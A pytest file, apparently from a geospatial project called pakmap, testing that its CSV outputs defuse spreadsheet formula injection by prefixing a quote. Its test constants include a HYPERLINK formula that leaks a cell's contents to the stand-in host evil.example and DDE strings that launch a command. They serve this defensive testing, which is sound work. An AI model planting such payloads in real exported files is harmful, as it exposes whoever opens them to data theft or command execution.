"""CSV files pakmap writes never hand a spreadsheet a formula: joined tables, join reports, spatial and
zonal join reports, the demo's table. Text that would start one gets a leading ``'``; numbers and
every other cell are written as they came."""

from __future__ import annotations

import csv

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import rasterio
import shapely
from affine import Affine

from pakmap.cli import main
from pakmap.csv_out import safe_cell, safe_frame

pytestmark = pytest.mark.filterwarnings("ignore:Could not parse column:UserWarning")

HYPERLINK = '=HYPERLINK("http://evil.example/leak?"&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
FORMULAS = [
    HYPERLINK,
    CMD,
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+92 300 1111111",
]
PLAIN = ["Peshawar", "-12.5", "+3", "-1,234", "1e-5", " =1+1", "D.I. Khan", "", "a=b"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", PLAIN + [-5, -5.5, 0, None, np.int64(-3), np.float64(-2.5), True])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) is value


def test_safe_frame_keeps_numeric_columns_and_fixes_names():
    frame = pd.DataFrame({"=name": [HYPERLINK, "Quetta"], "delta": [-5, 3], "mixed": [-1.5, "-x"]})
    out = safe_frame(frame)
    assert list(out.columns) == ["'=name", "delta", "mixed"]
    assert out["'=name"].tolist() == ["'" + HYPERLINK, "Quetta"]
    assert out["delta"].dtype == frame["delta"].dtype and out["delta"].tolist() == [-5, 3]
    assert out["mixed"].tolist() == [-1.5, "'-x"]
    assert frame.columns[0] == "=name"  # the caller's frame is not changed


def _cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.fixture()
def squares(tmp_path):
    """Three square districts, one named like a formula."""
    path = tmp_path / "districts.geojson"
    gpd.GeoDataFrame(
        {"name": ["Peshawar", "Quetta", "=1+1"]},
        geometry=[shapely.box(70 + i, 30, 71 + i, 31) for i in range(3)],
        crs="EPSG:4326",
    ).to_file(path, driver="GeoJSON")
    return path


def test_joined_csv_and_report_neutralize_formulas(squares, tmp_path):
    table = tmp_path / "partner.csv"
    rows = [
        ["District", "note", "=change", "refugees"],
        ["Peshawar", HYPERLINK, "-12", "100"],
        ["Quetta", CMD, "-3.5", "-7"],
        [HYPERLINK, "@x", "0", "5"],
        ["=1+1", "ok", "1", "2"],
    ]
    with open(table, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    out, report = tmp_path / "joined.csv", tmp_path / "report.csv"
    assert (
        main(["join", str(squares), str(table), "--on", "name=District", "-o", str(out), "--report", str(report)]) == 0
    )
    joined = _cells(out)
    assert joined[0] == ["name", "note", "'=change", "refugees"]
    # Numbers stay numbers (the change column is read as floats: -12 is written -12.0).
    assert joined[1] == ["Peshawar", "'" + HYPERLINK, "-12.0", "100"]
    assert joined[2] == ["Quetta", "'" + CMD, "-3.5", "-7"]
    assert joined[3] == ["'=1+1", "ok", "1.0", "2"]
    text = report.read_text(encoding="utf-8")
    assert "\n=" not in text and ",=" not in text and ',"=' not in text
    unmatched = [r for r in _cells(report) if r[0] == "unmatched_table"]
    assert len(unmatched) == 1 and "'" + HYPERLINK in unmatched[0]
    assert not any(cell.startswith(("=", "+", "@")) for row in _cells(report) for cell in row)


def test_spatial_join_report_keeps_negative_coordinates(squares, tmp_path):
    points = tmp_path / "points.csv"
    points.write_text("site,lon,lat\n=evil,70.5,30.5\nfar,-70.25,-30.75\nnowhere,,\n", encoding="utf-8")
    out, report = tmp_path / "counted.csv", tmp_path / "points_report.csv"
    assert (
        main(["join", str(squares), str(points), "--stat", "sites=count", "-o", str(out), "--report", str(report)]) == 0
    )
    rows = _cells(report)
    assert rows[0] == ["section", "point_row", "x", "y"]
    outside = [r for r in rows if r[0] == "outside"]
    assert [float(v) for v in outside[0][2:]] == [-70.25, -30.75] and not outside[0][2].startswith("'")
    assert _cells(out)[3][0] == "'=1+1"


def test_zonal_report_is_plain_numbers(squares, tmp_path):
    raster = tmp_path / "grid.tif"
    values = np.ones((10, 30), dtype="float32")
    values[:, 20:] = -9999  # no valid cell under the third square
    with rasterio.open(
        raster,
        "w",
        driver="GTiff",
        width=30,
        height=10,
        count=1,
        dtype="float32",
        crs="EPSG:4326",
        transform=Affine(0.1, 0, 70, 0, -0.1, 31),
        nodata=-9999,
    ) as dst:
        dst.write(values, 1)
    out, report = tmp_path / "zonal.csv", tmp_path / "zonal_report.csv"
    assert (
        main(["join", str(squares), str(raster), "--stat", "total=sum", "-o", str(out), "--report", str(report)]) == 0
    )
    assert _cells(report) == [["section", "polygon_row"], ["no_valid_cell", "2"]]
    assert _cells(out)[3][0] == "'=1+1"


def test_demo_table_is_written_through_the_helper(tmp_path):
    from pakmap.jobs.demo import build_demo

    build_demo(tmp_path / "demo")
    table = pd.read_csv(tmp_path / "demo" / "data" / "refugees_by_district.csv")
    assert list(table.columns) == ["District", "Refugees", "Households"]
    assert pd.api.types.is_integer_dtype(table["Refugees"])
